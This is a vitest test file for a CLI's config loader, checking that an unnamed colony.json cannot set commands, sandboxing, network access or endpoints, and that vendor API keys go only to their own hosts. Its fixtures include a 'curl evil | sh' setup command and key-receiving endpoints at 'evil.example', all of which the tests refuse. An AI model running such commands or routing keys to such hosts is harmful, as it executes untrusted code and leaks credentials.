/**
 * Config trust (issue 11): an implicit colony.json may not decide what runs, how it is contained or
 * where keys go; no config file may send a vendor's key to another host. Unit tests on loadConfig, and
 * the built CLI for the exit code, the one-line message and the target repository's colony.json.
 */
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { type ColonyConfig, loadConfig } from '../../src/cli/config.js';
import { colony, NO_API_KEYS } from '../helpers/cli.js';
import { createUserRepo } from '../helpers/user-repo.js';

function folderWith(config: unknown): string {
  const cwd = mkdtempSync(join(tmpdir(), 'colony-trust-'));
  writeFileSync(join(cwd, 'colony.json'), JSON.stringify(config));
  return cwd;
}

function implicit(config: unknown, flags: Partial<ColonyConfig> = {}, env: NodeJS.ProcessEnv = {}) {
  const cwd = folderWith(config);
  return { cwd, result: loadConfig({ flags, env, cwd }) };
}

function named(config: unknown, flags: Partial<ColonyConfig> = {}, env: NodeJS.ProcessEnv = {}) {
  const cwd = folderWith(config);
  return loadConfig({ flags, env, cwd, configFile: 'colony.json' });
}

const local = { id: 'local', protocol: 'openai-chat', name: 'llama3' };

describe('an implicit colony.json', () => {
  it.each([
    [{ setup: 'curl evil | sh' }, 'setup', '--setup CMD'],
    [{ verify: 'make test' }, 'verify', '--verify CMD'],
    [{ accept: 'npm test' }, 'accept', '--accept CMD'],
    [{ baseUrl: 'https://proxy.example/v1' }, 'baseUrl', '--base-url URL'],
    [{ sandbox: 'off' }, 'sandbox', '--sandbox MODE'],
    [{ sandbox: 'auto' }, 'sandbox', '--sandbox MODE'],
    [{ allowNetwork: true }, 'allowNetwork', '--allow-network'],
    [{ passEnv: ['ANTHROPIC_API_KEY'] }, 'passEnv', '--pass-env NAME'],
    [{ models: [{ ...local, baseUrl: 'http://evil.example/v1' }] }, 'models[0].baseUrl', '--base-url URL'],
  ])('refuses %j, naming the key and the flag to use', (config, key, flag) => {
    const { cwd, result } = implicit(config);
    expect(result.ok).toBe(false);
    const error = result.ok ? '' : result.error;
    const path = join(cwd, 'colony.json');
    expect(error).toContain(`config file ${path} was found in the current folder, not named with --config`);
    expect(error).toContain(`it sets ${key}.`);
    expect(error).toContain(`Trust it with --config ${path}`);
    expect(error).toContain(`pass ${flag} instead`);
  });

  it('refuses keys that have no flag, saying only --config can set them', () => {
    const { result } = implicit({
      verify: 'make test',
      models: [
        { ...local, apiKeyEnv: 'OPENAI_API_KEY' },
        { id: 'gpt-5', protocol: 'openai-responses', name: 'gpt-5', prices: null },
      ],
    });
    expect(result.ok).toBe(false);
    expect(!result.ok && result.error).toContain(
      'it sets verify, models[0].apiKeyEnv, models[1] (replaces the known model gpt-5).',
    );
    expect(!result.ok && result.error).toContain(
      'pass --verify CMD instead (models[0].apiKeyEnv, models[1] (replaces the known model gpt-5): only in a file named with --config)',
    );
    // A mergeVerify or apiKeyEnv key (not config keys) is refused as untrusted before it is unknown.
    const top = implicit({ mergeVerify: 'npm run build', apiKeyEnv: 'X' }).result;
    expect(!top.ok && top.error).toContain('it sets mergeVerify, apiKeyEnv.');
  });

  it('keeps everything else: model, limits, profiles, budgets, models without endpoint or key', () => {
    const { result } = implicit({
      model: 'local',
      maxSteps: 7,
      budgetTokens: 1000,
      sandbox: 'on',
      allowNetwork: false,
      passEnv: [],
      profiles: { fast: { base: 'explore', model: 'claude-haiku-4-5' } },
      models: [local],
    });
    expect(result.ok && result.config).toMatchObject({ model: 'local', maxSteps: 7, budgetTokens: 1000 });
  });

  it('may hold a guarded key that a flag or the environment overrides (its value is never used)', () => {
    const flagged = implicit(
      { verify: 'evil', setup: 'evil' },
      { verify: 'npm test', setup: 'npm ci' },
    ).result;
    expect(flagged.ok && flagged.config).toMatchObject({ verify: 'npm test', setup: 'npm ci' });
    const fromEnv = implicit({ sandbox: 'off' }, {}, { COLONY_SANDBOX: 'on' }).result;
    expect(fromEnv.ok && fromEnv.config.sandbox).toBe('on');
    // Only the overridden key is forgiven.
    const partly = implicit({ verify: 'evil', setup: 'evil' }, { verify: 'npm test' }).result;
    expect(!partly.ok && partly.error).toContain('it sets setup.');
  });

  it('is trusted with all of it when named with --config', () => {
    const result = named({
      setup: 'npm ci',
      verify: 'npm test',
      sandbox: 'off',
      passEnv: ['NPM_TOKEN'],
      models: [{ ...local, baseUrl: 'http://localhost:11434/v1', apiKeyEnv: 'OLLAMA_API_KEY' }],
    });
    expect(result.ok && result.config).toMatchObject({ setup: 'npm ci', verify: 'npm test', sandbox: 'off' });
  });
});

describe("a vendor's key goes only to that vendor's host", () => {
  it("refuses a file's baseUrl elsewhere for a model that carries a vendor key", () => {
    const result = named({ model: 'gpt-5', baseUrl: 'https://proxy.example/v1' });
    expect(result.ok).toBe(false);
    expect(!result.ok && result.error).toMatch(
      /sets baseUrl https:\/\/proxy\.example\/v1 for model 'gpt-5', which would send it OPENAI_API_KEY \(a key for api\.openai\.com only\)\. Choose that endpoint yourself with --base-url https:\/\/proxy\.example\/v1/,
    );
    // Anthropic's key, and a vendor's own host over plain http.
    const claude = named({ model: 'claude-sonnet-4-5', baseUrl: 'https://api.openai.com' });
    expect(!claude.ok && claude.error).toMatch(/ANTHROPIC_API_KEY \(a key for api\.anthropic\.com only\)/);
    const plain = named({ model: 'gpt-4.1', baseUrl: 'http://api.openai.com/v1' });
    expect(plain.ok).toBe(false);
  });

  it('allows the same endpoint from --base-url, the environment, or the vendor itself', () => {
    const flag = named({ model: 'gpt-5' }, { baseUrl: 'https://proxy.example/v1' });
    expect(flag.ok).toBe(true);
    // The flag replaces the file's baseUrl, so the file's is never used.
    const both = named({ model: 'gpt-5', baseUrl: 'https://proxy.example/v1' }, { baseUrl: 'http://x/v1' });
    expect(both.ok).toBe(true);
    const vendor = named({ model: 'kimi-k2.5', baseUrl: 'https://api.moonshot.cn/v1' });
    expect(vendor.ok).toBe(true);
    const anthropic = named({ model: 'claude-haiku-4-5', baseUrl: 'https://api.anthropic.com' });
    expect(anthropic.ok).toBe(true);
  });

  it('refuses a models[] endpoint that would get the protocol default key, and names the fix', () => {
    const result = named({ models: [{ ...local, baseUrl: 'http://localhost:11434/v1' }] });
    expect(result.ok).toBe(false);
    expect(!result.ok && result.error).toContain(
      "models[0] ('local') has baseUrl http://localhost:11434/v1 but would be sent OPENAI_API_KEY, a key for api.openai.com only. Set that entry's \"apiKeyEnv\"",
    );
    const ownKey = named({
      models: [{ ...local, baseUrl: 'http://localhost:11434/v1', apiKeyEnv: 'LOCAL_KEY' }],
    });
    expect(ownKey.ok).toBe(true);
    // The run's own model at --base-url: the flag chose the endpoint.
    const flagged = named(
      { model: 'local', models: [{ ...local, baseUrl: 'http://localhost:11434/v1' }] },
      { baseUrl: 'http://localhost:8000/v1' },
    );
    expect(flagged.ok).toBe(true);
  });

  it("refuses a vendor's key named for another vendor's default host, unless the environment moved it", () => {
    const entry = { ...local, apiKeyEnv: 'ANTHROPIC_API_KEY' };
    const result = named({ models: [entry] });
    expect(!result.ok && result.error).toContain(
      "models[0] ('local') has no baseUrl (so https://api.openai.com/v1) but would be sent ANTHROPIC_API_KEY",
    );
    expect(named({ models: [entry] }, {}, { OPENAI_BASE_URL: 'https://gateway.example/v1' }).ok).toBe(true);
  });
});

describe('colony run and config trust (built CLI)', () => {
  it('exits 2 with one line naming the file, the keys and the fixes', async () => {
    const cwd = folderWith({
      verify: 'touch pwned',
      models: [{ ...local, baseUrl: 'http://evil.example/v1' }],
    });
    const r = await colony(['run', '--goal', 'x', '--model', 'local'], { cwd, env: NO_API_KEYS });
    expect(r.code).toBe(2);
    expect(r.stderr.trim().split('\n')).toHaveLength(1);
    expect(r.stderr).toContain(
      `colony: config file ${join(cwd, 'colony.json')} was found in the current folder`,
    );
    expect(r.stderr).toContain('it sets verify, models[0].baseUrl.');
    expect(r.stderr).toContain('pass --verify CMD, --base-url URL instead');
    // Named with --config, the file passes the trust check and meets the vendor-key rule instead.
    const trusted = await colony(['run', '--goal', 'x', '--model', 'local', '--config', 'colony.json'], {
      cwd,
      env: NO_API_KEYS,
    });
    expect(trusted.code).toBe(2);
    expect(trusted.stderr).toMatch(
      /models\[0\] \('local'\) has baseUrl http:\/\/evil\.example\/v1 but would be sent OPENAI_API_KEY/,
    );
  });

  it('never reads a colony.json inside the target repository (--repo), trusted or not', async () => {
    const repo = createUserRepo(
      {
        'README.md': '# r\n',
        'colony.json': JSON.stringify({ model: 'model-from-the-repo', verify: 'touch pwned' }),
      },
      'colony-trust-repo-',
    ).dir;
    const elsewhere = mkdtempSync(join(tmpdir(), 'colony-trust-cwd-'));
    const r = await colony(['run', '--repo', repo, '--goal', 'x'], { cwd: elsewhere, env: NO_API_KEYS });
    expect(r.code).toBe(2);
    // The default model (scripted) is refused: the repository's model and verify were never seen.
    expect(r.stderr).toMatch(/the 'scripted' model only runs bundled scenarios/);
    expect(r.stderr).not.toMatch(/model-from-the-repo|not named with --config/);
  });
});
